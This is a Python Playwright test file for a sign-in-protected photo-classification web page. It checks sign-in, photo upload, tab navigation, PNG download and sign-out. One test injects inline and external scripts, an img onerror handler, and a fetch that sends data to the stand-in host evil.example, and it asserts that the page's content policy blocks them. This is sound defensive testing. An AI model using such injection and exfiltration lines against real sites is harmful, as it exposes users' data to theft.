"""The real page behind all walls, in Chromium: it works, and nothing is complained of."""

import pytest
from browser.conftest import Watch, browser_type_launch_args  # noqa: F401
from conftest import ROOT, make_tiny
from playwright.sync_api import Page, expect

from resnet.engine import Engine
from resnet.server.status import Status
from resnet.ui.page import build
from server.conftest import PASSWORDS, guarded

pytestmark = pytest.mark.browser
PHOTO = ROOT / "assets" / "examples" / "bridge.jpg"


@pytest.fixture(scope="module")
def page_site(tmp_path_factory, users_file):
    """Where people sign in; the other browser tests have the page that is open to everybody."""
    engine, status = Engine(make_tiny("v1")), Status()
    folder = tmp_path_factory.mktemp("page") / "photos"
    # With the limits that it has for users: a page must not run into them.
    with guarded(
        folder, lambda _: build(engine, "auto", status), engine=engine, status=status, burst=300,
        auth=str(users_file),
    ) as found:  # fmt: skip
        yield found


def open_page(page: Page, site) -> None:
    page.set_default_timeout(60_000)
    page.goto(site.url)
    page.get_by_label("Name").fill("anna")
    page.get_by_label("Password").fill(PASSWORDS["anna"])
    page.get_by_role("button", name="Sign in").click()
    page.locator("#photo input[type=file]").wait_for(state="attached")


def test_the_page_works_and_breaks_no_rule(page_site, page: Page):
    watch = Watch(page)
    refused: list[str] = []
    page.on("response", lambda r: refused.append(r.url) if r.status >= 400 else None)
    open_page(page, page_site)
    page.locator("#examples button").first.click()
    expect(page.locator("#answers button").first).to_be_visible()
    expect(page.locator("#heatview img").first).to_be_visible()
    image = page.locator("#photo img").first
    expect(image).to_be_visible()
    assert image.evaluate("image => image.naturalWidth") > 100

    example = image.get_attribute("src")
    page.locator("#photo input[type=file]").set_input_files(PHOTO)
    expect(image).not_to_have_attribute("src", example)
    page.wait_for_function("document.querySelector('#photo img').naturalWidth === 1024")

    for tab in ("Inside", "About", "Classify"):
        page.get_by_role("tab", name=tab, exact=True).click()
    page.get_by_role("tab", name="Inside", exact=True).click()
    expect(page.locator("#outcome")).to_contain_text("As trained")
    page.get_by_role("tab", name="Classify", exact=True).click()
    with page.expect_download() as download:
        page.locator("#download-png").click()
    assert download.value.suggested_filename.endswith(".png")
    assert not refused
    watch.check()  # a broken content policy is an error in the console


def test_a_script_that_somebody_smuggled_in_does_not_run(page_site, page: Page):
    open_page(page, page_site)
    page.evaluate(
        """() => {
          const inline = document.createElement('script');
          inline.textContent = 'window.smuggled = 1';
          document.body.append(inline);
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="smuggled = 2">');
          const far = document.createElement('script');
          far.src = 'https://evil.example/x.js';
          document.body.append(far);
        }"""
    )
    blocked = page.evaluate(
        "() => fetch('https://evil.example/?photo').then(() => 'sent', () => 'blocked')"
    )
    assert blocked == "blocked"
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.smuggled") is None


def test_signing_out_by_hand(page_site, page: Page):
    open_page(page, page_site)
    page.get_by_role("tab", name="About", exact=True).click()
    expect(page.locator("#status")).to_contain_text("You are signed in as anna.")
    page.get_by_role("link", name="Sign out").click()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Password")).to_be_visible()
    page.goto(page_site.url)
    expect(page.get_by_label("Password")).to_be_visible()
